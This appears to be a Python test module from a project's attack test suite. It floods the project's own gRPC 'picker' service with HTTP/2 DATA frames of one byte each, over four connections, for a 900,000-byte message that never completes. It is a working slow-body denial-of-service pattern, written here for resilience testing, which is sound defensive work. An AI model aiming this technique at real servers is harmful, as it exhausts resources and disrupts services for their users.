"""Peers of the picker's own port that send one message in DATA frames of one byte."""

import asyncio
import contextlib

from extproc.http2 import frames as http2
from tests.attack.http2_client import raw_client
from tests.attack.target import Target

CONNECTIONS = 4
FRAMES_AT_ONCE = 1_000
MESSAGE_BYTES = 900_000  # never complete
PATH = b"/envoy.service.ext_proc.v3.ExternalProcessor/Process"


async def attack(target: Target) -> None:
    """Send as fast as the picker reads."""
    target.begin()
    async with asyncio.TaskGroup() as tasks:
        for _ in range(CONNECTIONS):
            tasks.create_task(_connection(target))


async def _connection(target: Target) -> None:
    while True:
        async with raw_client(*target.picker_address()) as client:
            with contextlib.suppress(ConnectionError):
                stream, head = client.open(target.picker, path=PATH, content_type=b"application/grpc", te=b"trailers")
                await client.send(head)
                await client.send(http2.frame(http2.DATA, 0, stream, b"\0" + MESSAGE_BYTES.to_bytes(4, "big")))
                frames = http2.frame(http2.DATA, 0, stream, b"x") * FRAMES_AT_ONCE
                for _ in range(MESSAGE_BYTES // FRAMES_AT_ONCE):
                    await client.send(frames)
                    target.done += FRAMES_AT_ONCE
